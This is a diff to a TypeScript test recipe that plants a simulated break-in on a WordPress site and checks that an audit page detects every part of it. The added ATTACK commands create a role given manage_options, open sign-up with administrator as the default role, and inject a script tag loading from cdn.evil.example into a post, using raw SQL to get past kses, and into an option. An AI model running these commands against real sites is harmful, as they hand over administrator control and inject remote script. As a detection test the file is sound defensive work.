@@ -10,7 +10,8 @@
  * way the page means to catch (a core file, a plugin file, a file beside
  * index.php, PHP in uploads, a .user.ini, a must-use plugin hiding an extra
  * administrator, a link, wp-cli.yml files, names with escape codes, a role
- * named *, an editor's Application Password), then on the same site clean:
+ * named *, an editor's Application Password, sign-ups opened as administrator, a role EDITOR and its account,
+ * a script in a post and an option), then on the same site clean:
  * each check must name exactly what was planted, no listing may print a raw
  * control character, and nothing is named on the clean site.
  * The compromised run comes first, so a breaking edit fails there and its
@@ -44,6 +45,20 @@ const GLOB_ROLE = '*';
 /** A non-administrator whose Application Password logs in over the REST API all the same (review r48 LOW 5). */
 const APP_PASSWORD_USER = 'wpeditor';
 const APP_PASSWORD_NAME = 'Jetpack';
+/**
+ * A role named EDITOR given manage_options, and an account holding it (review r50 LOW 3): under WordPress's _ci
+ * collation a plain REGEXP takes its key for editor's, so the database query would pass it over.
+ */
+const UPPER_ROLE = 'EDITOR';
+const UPPER_ROLE_USER = 'wpboss';
+/** The script planted in a post and in an option (review r50 HIGH 1): what step 3's searches of the database must find. */
+const INJECTED = '<script src=https://cdn.evil.example/x.js></script>';
+const INJECTED_OPTION = 'wpc_footer_code';
+/** Settings that let anyone sign up as an administrator (review r50 HIGH 1), and their values as installed. */
+const OPEN_SIGNUP = {
+  broken: {users_can_register: '1', default_role: 'administrator'},
+  clean: {users_can_register: '0', default_role: 'subscriber'},
+};
 /**
  * A file name with escape codes that move the cursor up a line and erase it: raw on a terminal, it hides the line
  * above. As the page's cat -v shows it, and as bash's $'...' writes it.
@@ -89,7 +104,8 @@ const PLANTED = {
  * plugin file changed, a subscriber and a role given administrators' capabilities, a backdoor beside index.php, wp-cli.yml files that run PHP when WP-CLI starts below them,
  * PHP in an .ico in uploads, and the two files core runs as PHP that the core check skips (.maintenance, a
  * translation's .l10n.php), files named with escape codes where each listing of step 3 prints names, a role named
- * `*` holding manage_options, and an Application Password of an editor.
+ * `*` holding manage_options, an Application Password of an editor, anyone's sign-up made an administrator, a role
+ * EDITOR (not editor) holding manage_options and its account, and a script in a post and in an option.
  */
 const ATTACK = `set -e
 cd ${SITE.root}
@@ -102,6 +118,14 @@ wp --path=${SITE.root} --skip-plugins --skip-themes role create '${GLOB_ROLE}' H
 wp --path=${SITE.root} --skip-plugins --skip-themes cap add '${GLOB_ROLE}' manage_options >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes user create ${APP_PASSWORD_USER} ${APP_PASSWORD_USER}@example.net --role=editor --porcelain >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes user application-password create ${APP_PASSWORD_USER} ${APP_PASSWORD_NAME} --porcelain >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes role create ${UPPER_ROLE} Editor >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes cap add ${UPPER_ROLE} manage_options >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes user create ${UPPER_ROLE_USER} ${UPPER_ROLE_USER}@example.net --role=${UPPER_ROLE} --porcelain >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes option update users_can_register ${OPEN_SIGNUP.broken.users_can_register} >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes option update default_role ${OPEN_SIGNUP.broken.default_role} >/dev/null
+wp --path=${SITE.root} --skip-plugins --skip-themes option add ${INJECTED_OPTION} '${INJECTED}' >/dev/null
+# Straight into the table: wp post create would pass it through kses, as WP-CLI runs as no user
+wp --path=${SITE.root} db query "UPDATE wp_posts SET post_content = CONCAT(post_content, '${INJECTED}') WHERE ID = 1"
 mkdir -p wp-content/mu-plugins wp-content/uploads/2026/11
 cat > wp-content/mu-plugins/.cache.php <<'PHP'
 <?php
@@ -324,7 +348,17 @@ export function listedPaths(output: string): string[] {
 }
 
 /** The lines of the roles loop: a bare role name (WordPress's own are lower-case words; the planted one is *). */
-const rolesListed = (output: string) => [...output.matchAll(/^([a-z_]+|\*)$/gm)].map((m) => m[1]);
+const rolesListed = (output: string) => [...output.matchAll(/^([A-Za-z_]+|\*)$/gm)].map((m) => m[1]);
+/** The rows of the options query: each name the query asks for, with its value. */
+const optionRows = (output: string) =>
+  new Map([...output.matchAll(/^(users_can_register|default_role|siteurl)\t(.*)$/gm)].map((m) => [m[1], m[2]]));
+/** Whether the options query showed users_can_register and default_role with these values, and siteurl. */
+const showsSignup = (output: string, values: {users_can_register: string; default_role: string}) => {
+  const rows = optionRows(output);
+  return (
+    rows.get('users_can_register') === values.users_can_register && rows.get('default_role') === values.default_role && rows.has('siteurl')
+  );
+};
 /** The first line of `output` holding a raw control character, shown with JSON escapes; undefined when none does. */
 export function rawControlLine(output: string): string | undefined {
   const line = output.split('\n').find(hasControl);
@@ -396,11 +430,29 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       () => `the checks that load WordPress did not show ${HELPER} (manage_options and no role):\n${loaded}`,
     );
     ctx.expect(
-      sorted(rolesListed(loaded)) === sorted(['administrator', WIDENED_ROLE, GLOB_ROLE]),
+      new RegExp(`^\\d+\\s+${UPPER_ROLE_USER}\\s+${UPPER_ROLE_USER}@example\\.net\\s.*"${UPPER_ROLE}"`, 'm').test(loaded),
       LOADING_CHECKS,
-      `the roles loop names administrator, ${WIDENED_ROLE} (given promote_users) and the role named ${GLOB_ROLE} (given manage_options)`,
+      `the database query shows ${UPPER_ROLE_USER}, whose role ${UPPER_ROLE} (given manage_options) is not editor`,
+      () => `the checks that load WordPress did not show ${UPPER_ROLE_USER} (role ${UPPER_ROLE}, not editor):\n${loaded}`,
+    );
+    ctx.expect(
+      showsSignup(loaded, OPEN_SIGNUP.broken),
+      LOADING_CHECKS,
+      'the options query shows users_can_register 1 and default_role administrator: anyone could sign up as an administrator',
+      () => `the checks that load WordPress did not show users_can_register 1 and default_role administrator (and siteurl):\n${loaded}`,
+    );
+    ctx.expect(
+      new RegExp(`^1\\tpost\\tpublish\\tHello world!$`, 'm').test(loaded) && new RegExp(`^\\d+\\t${INJECTED_OPTION}$`, 'm').test(loaded),
+      LOADING_CHECKS,
+      `the searches for injected code find the script in post 1 and in the option ${INJECTED_OPTION}`,
+      () => `the checks that load WordPress did not find the script injected into post 1 and ${INJECTED_OPTION}:\n${loaded}`,
+    );
+    ctx.expect(
+      sorted(rolesListed(loaded)) === sorted(['administrator', WIDENED_ROLE, GLOB_ROLE, UPPER_ROLE]),
+      LOADING_CHECKS,
+      `the roles loop names administrator, ${WIDENED_ROLE} (given promote_users) and the roles named ${GLOB_ROLE} and ${UPPER_ROLE} (given manage_options)`,
       () =>
-        `the roles loop named ${rolesListed(loaded).join(', ') || 'no role'}, not administrator, ${WIDENED_ROLE} and ${GLOB_ROLE}:\n${loaded}`,
+        `the roles loop named ${rolesListed(loaded).join(', ') || 'no role'}, not administrator, ${WIDENED_ROLE}, ${GLOB_ROLE} and ${UPPER_ROLE}:\n${loaded}`,
     );
     ctx.expect(
       new RegExp(`^\\d+\\s+${APP_PASSWORD_USER}\\s+a:1:\\{.*"name";s:${APP_PASSWORD_NAME.length}:"${APP_PASSWORD_NAME}"`, 'm').test(loaded),
@@ -450,10 +502,13 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       !loadedClean.includes(INTRUDER) &&
       !loadedClean.includes(HELPER) &&
       !loadedClean.includes(APP_PASSWORD_USER) &&
+      !loadedClean.includes(UPPER_ROLE_USER) &&
+      showsSignup(loadedClean, OPEN_SIGNUP.clean) &&
+      !/\tpost_title$|\toption_name$/m.test(loadedClean) &&
       sorted(rolesListed(loadedClean)) === 'administrator' &&
       /^Success: Verified 1 of 1 plugins\.$/m.test(loadedClean),
     LOADING_CHECKS,
-    'on the clean site, the WordPress checks list the one administrator, only administrator as a role that can take the site, and verify the plugin',
+    'on the clean site, the WordPress checks list the one administrator, users_can_register 0 and default_role subscriber, no injected code, only administrator as a role that can take the site, and verify the plugin',
     () => `on the clean site the checks that load WordPress printed:\n${loadedClean}`,
   );
 }
@@ -555,7 +610,37 @@ export const wordpressSecurityRecipe: Recipe = {
             'for role in $(wp --path="$SITE" --skip-plugins --skip-themes role list --field=role); do',
           )
           .replace(/^done < <\(.*\)$/m, 'done'),
-      expect: /the roles loop named .*, not administrator, author and \*/,
+      expect: /the roles loop named .*, not administrator, author, \* and EDITOR/,
+    },
+    {
+      what: 'match role keys in any case in the database query (REGEXP without BINARY, as before review r50)',
+      ref: LOADING_CHECKS,
+      edit: replace(' NOT REGEXP BINARY ', ' NOT REGEXP '),
+      expect: /did not show wpboss/,
+    },
+    {
+      what: 'drop the query of the settings',
+      ref: LOADING_CHECKS,
+      edit: replace(/^wp --path="\$SITE" db query "SELECT option_name, option_value .*\n.*\n/m, ''),
+      expect: /did not show users_can_register 1 and default_role administrator/,
+    },
+    {
+      what: 'ask the settings query for the addresses and theme only (users_can_register and default_role left out)',
+      ref: LOADING_CHECKS,
+      edit: replace("('users_can_register', 'default_role', ", '('),
+      expect: /did not show users_can_register 1 and default_role administrator/,
+    },
+    {
+      what: 'drop the search of posts for injected code',
+      ref: LOADING_CHECKS,
+      edit: replace(/^wp --path="\$SITE" db query "SELECT ID, post_type, post_status, post_title FROM wp_posts\n.*\n/m, ''),
+      expect: /did not find the script injected into post 1/,
+    },
+    {
+      what: 'drop the search of options for injected code',
+      ref: LOADING_CHECKS,
+      edit: replace(/^wp --path="\$SITE" db query "SELECT option_id, option_name FROM wp_options\n.*\n/m, ''),
+      expect: /did not find the script injected into post 1 and wpc_footer_code/,
     },
     {
       what: "drop the query of every account's Application Passwords",
